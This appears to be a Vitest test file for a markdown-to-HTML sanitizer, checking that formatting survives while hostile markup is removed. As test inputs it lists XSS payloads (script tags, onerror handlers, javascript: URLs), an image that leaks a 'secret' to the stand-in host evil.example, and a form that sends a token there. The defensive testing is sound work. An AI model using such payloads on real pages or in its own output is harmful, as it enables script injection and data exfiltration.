// @vitest-environment jsdom

import { expect, it } from "vitest";
import { htmlOf } from "./html";

it("keeps what markdown is for", () => {
  const html = htmlOf(
    "**bold** and `code`\n\n1. one\n2. two\n\n```python\nprint(1)\n```\n\n| a |\n|---|\n| b |",
  );
  for (const tag of [
    "<strong>bold</strong>",
    "<code>code</code>",
    "<ol>",
    "<pre><code>print(1)",
    "<td>b</td>",
  ])
    expect(html).toContain(tag);
});

it("takes out whatever acts, loads or dresses up", () => {
  const hostile = [
    "<script>alert(1)</script>",
    '<img src="https://evil.example/p.gif" onerror="alert(1)">',
    "![spy](https://evil.example/p.gif?prompt=secret)",
    '<form action="https://evil.example"><input name="token"><button>Go</button></form>',
    '<p style="position:fixed;inset:0" id="root" class="primary">over all</p>',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<iframe src="https://evil.example"></iframe>',
    "<math><style>*{display:none}</style></math>",
  ].join("\n\n");
  const holder = document.createElement("div");
  holder.innerHTML = htmlOf(hostile);
  expect(
    holder.querySelector("script, img, form, input, button, svg, iframe, style, [style], [id], [class]"),
  ).toBeNull();
  expect(holder.innerHTML).not.toContain("evil.example/p.gif");
  expect(holder.innerHTML).not.toMatch(/\son\w+=/);
});

it("follows links to the web only, and tells nobody where from", () => {
  const link = document.createElement("div");
  link.innerHTML = htmlOf("[docs](https://example.com)");
  expect(link.querySelector("a")?.getAttribute("rel")).toContain("noopener");
  for (const address of ["javascript:alert(1)", "data:text/html,x", "/api/session", "vbscript:x"]) {
    link.innerHTML = htmlOf(`[x](${address})`);
    expect(link.querySelector("a[href]")).toBeNull();
  }
});
